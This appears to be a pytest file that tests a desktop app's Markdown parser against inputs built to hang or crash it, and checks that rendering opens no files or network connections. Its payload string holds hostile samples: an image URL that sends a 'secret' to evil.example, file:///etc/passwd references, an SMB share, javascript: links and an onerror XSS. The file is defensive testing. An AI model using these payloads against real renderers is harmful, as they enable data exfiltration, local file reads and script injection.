"""Texts made to hang, to crash or to make the program open something. Each must be read, and in a bounded time."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest

from desktop.rendering.markdown.document import MarkdownDocument
from desktop.rendering.markdown.leaves import parse
from tests.rendering.calls import count_calls

# Many times what each takes on a slow machine (the worst about a second of CPU), and far below what would be quadratic.
BOUND = 8.0

HOSTILE = {
    "backticks": "`" * 100_000,
    "runs of backticks": " ".join("`" * length for length in range(1, 400)),
    "quotes": ">" * 20_000,
    "spaced quotes": "> " * 20_000 + "x",
    "deep quotes over lines": (">" * 90 + " a\n") * 2_000,
    "deep list": "".join(" " * (2 * level) + "- x\n" for level in range(500)),
    "list in a line": "- " * 5_000 + "x",
    "list with blank lines": "- " * 30 + "a\n" + "\n" * 20_000,
    "brackets": "[" * 50_000,
    "pairs of brackets": "[]" * 25_000,
    "half links": "[a](" * 12_000,
    "half images": "![a](" * 10_000,
    "nested images": "![" * 400 + "a" + "](x)" * 400,
    "nested links": "[" * 600 + "a" + "](x)" * 600,
    "half definitions": "[a\n" * 10_000,
    "definitions": "[a]: b\n" * 10_000 + "\n" + "[a] " * 5_000,
    "many labels": "".join(f"[a{n}]: b\n" for n in range(2_000))
    + "\n"
    + "".join(f"x [a{n}]\n\n" for n in range(2_000)),
    "open title": '[a]: /u "' + "x\n" * 20_000,
    "stars": "**" * 50_000,
    "stars and lines": "*_" * 15_000,
    "stars in words": "a**b" * 20_000,
    "stars before words": "*a " * 20_000,
    "waves": "~~a " * 20_000,
    "less": "<" * 60_000,
    "half addresses": "<http://" * 8_000,
    "addresses": "http://" * 20_000,
    "closing brackets after an address": "https://x.y/" + ")" * 100_000,
    "ampersands": "&" * 60_000,
    "dollars": "$" * 60_000,
    "dollars in lines": "$$\n" * 20_000,
    "brackets of formulas": "\\[ a_1\n" * 10_000,
    "formula after formula": "$a$ " * 15_000,
    "notes": "[^1]: [^2] x\n\n" * 5_000,
    "notes in notes": "[^1]: " * 10_000,
    "rows without a table": "| | | |\n" * 8_000,
    "odd entities": "&#x110000;&#0;&#xD800;&lt;" * 1_000,
    "backslashes": "\\" * 60_000,
    "wide table": "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|\n" + "|x|\n" * 100,
    "headings": "# " + "a #" * 30_000,
    "rules": "- " * 100_000,
    "changing lists": "- a\n+ b\n" * 10_000,
    "spaces": " " * 1_000_000,
    "lines of spaces": (" " * 1_000 + "\n") * 500,
    "tabs": "\t" * 100_000 + "x",
    "carriage returns": "\r" * 100_000,
    "no characters": "\0" * 100_000,
    "lone surrogates": "\ud800" * 1_000 + "[a](http://\ud800.x) https://\udfff `\ud800` [\ud800]: \ud800",
    "line feeds": "\n" * 100_000,
    "lines of a quote": "> text\n" + ">\n" * 30_000,
    "definitions with titles": "text\n\n" + "".join(f'[{n}]: https://x.y/{n} "Title {n}"\n' for n in range(1_000)),
    "row without an end": "| a | b |\n|---|---|\n" + "| a " * 15_000,
    "three megabytes in a word": "a" * 3_000_000,
    "three megabytes in a line": "word " * 600_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_read_in_a_bounded_time(name):
    began = time.process_time()
    parse(HOSTILE[name])
    assert time.process_time() - began < BOUND


@pytest.mark.parametrize(
    "name", ["stars and lines", "half definitions", "deep list", "wide table", "headings", "brackets"]
)
def test_grown_in_a_bounded_time(name):
    text = HOSTILE[name][:60_000]
    document = MarkdownDocument()
    began = time.process_time()
    for position in range(0, len(text), 55):
        document.append(text[position : position + 55])
    document.finish()
    assert time.process_time() - began < BOUND


MOST_CALLS = 250_000  # some tens of milliseconds


@pytest.mark.parametrize("name", HOSTILE)
def test_no_step_of_a_growing_text_is_long(name):
    """No more is read again of a text than some thousand letters, so that the first ones tell of all."""
    text = HOSTILE[name][:8_000]
    document = MarkdownDocument()
    for position in range(0, len(text), 500):
        piece = text[position : position + 500]
        assert count_calls(lambda piece=piece: document.append(piece)) < MOST_CALLS


_READ_WITH_A_GUARD = """
import sys
from desktop.rendering.code.highlight import coloured_lines
from desktop.rendering.markdown.leaves import parse
parse("warm *up* `x`\\n\\n[a]: b\\n")  # what is imported late is imported now
for language in ("python", "html"):
    coloured_lines(["x"], language)

def guard(event, arguments):
    if event.split(".")[0] in {"open", "socket", "subprocess", "os", "urllib", "ctypes", "winreg"}:
        raise RuntimeError(event)

sys.addaudithook(guard)
text = sys.argv[1]
leaves = parse(text)
for language in ("python", "html"):
    coloured_lines(text.splitlines(), language)
print(len(leaves))
"""

PAYLOADS = """
![a](https://evil.example/collect?words=secret) ![b](file:///etc/passwd) ![c](//host/share/x.png) ![d](/dev/zero)
![e][1] [f][1] <img src="/etc/passwd"> <img src=x onerror=alert(1)> <link rel=stylesheet href=/etc/passwd>
<style>@import url(/etc/passwd)</style> [g](javascript:alert(1)) [h](file:///etc/passwd) <file:///etc/passwd>

<iframe src="https://evil.example"></iframe>

| ![t](/etc/passwd) |
|---|
| [u](smb://host/share) |

[1]: file:///etc/passwd
"""


def test_reading_opens_nothing():
    done = subprocess.run(
        [sys.executable, "-c", _READ_WITH_A_GUARD, PAYLOADS], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) == 3


def test_only_what_is_a_web_address_in_plain_sight_is_clickable():
    links = set()
    for leaf in parse(PAYLOADS):
        cells = [cell for row in leaf.table.rows for cell in row] if leaf.table else []
        links |= {span.href for part in (leaf, *cells) for span in part.spans if span.href}  # type: ignore[attr-defined]
    assert links == {"https://evil.example"}
